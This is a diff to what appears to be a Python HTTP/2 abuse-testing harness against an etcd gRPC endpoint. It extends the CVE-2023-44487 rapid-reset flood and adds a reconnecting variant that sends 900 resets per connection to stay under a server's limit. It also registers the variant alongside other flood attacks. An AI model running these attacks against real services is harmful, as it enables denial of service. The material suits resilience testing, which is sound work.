@@ -195,24 +195,30 @@ def continuation_flood(endpoint: str, deadline: float) -> Outcome:
     return outcome
 
 
-def rapid_reset(endpoint: str, deadline: float) -> Outcome:
-    """CVE-2023-44487: HEADERS + DATA (a complete Put) + RST_STREAM, stream after stream, one write each."""
+def rapid_reset(endpoint: str, deadline: float, per_connection: int = 2**30, linger: float = 2.0) -> Outcome:
+    """CVE-2023-44487: HEADERS + DATA (a complete Put) + RST_STREAM, stream after stream, one write each; a new
+    connection after ``per_connection`` streams or once cut off (after reading for ``linger`` seconds)."""
     outcome = Outcome()
     while time.monotonic() < deadline:
         conn = RawH2(endpoint)
         outcome.connections += 1
         stream_id = 1
-        while time.monotonic() < deadline and stream_id < 2**31 - 1:
+        while time.monotonic() < deadline and stream_id < 2 * per_connection:
             request = conn.request_headers(stream_id, "/etcdserverpb.KV/Put")
             request += conn.message(stream_id, _put(b"abuse/reset/%d" % stream_id)) + conn.rst(stream_id)
             if not conn.send(request):
                 break
             stream_id += 2
-        conn.read_until_closed(outcome, 2.0)
+        conn.read_until_closed(outcome, linger)
         outcome.cut_off += conn.closed
         outcome.bytes_sent += conn.sent
         conn.close()
     return outcome
+
+
+def rapid_reset_reconnecting(endpoint: str, deadline: float) -> Outcome:
+    """Rapid reset that stays under one connection's burst: 900 resets, then a new connection."""
+    return rapid_reset(endpoint, deadline, per_connection=900, linger=0.05)
 
 
 def hoard_streams(endpoint: str, deadline: float, streams: int = 100_000) -> Outcome:
@@ -341,6 +347,7 @@ ATTACKS: dict[str, Callable[[str, float], Outcome]] = {
     "never-read-large-responses": never_read_large_responses,
     "continuation-flood": continuation_flood,
     "rapid-reset": rapid_reset,
+    "rapid-reset-reconnecting": rapid_reset_reconnecting,
     "hoard-100k-streams": hoard_streams,
     "hpack-bomb": hpack_bomb,
     "partial-messages": partial_messages,
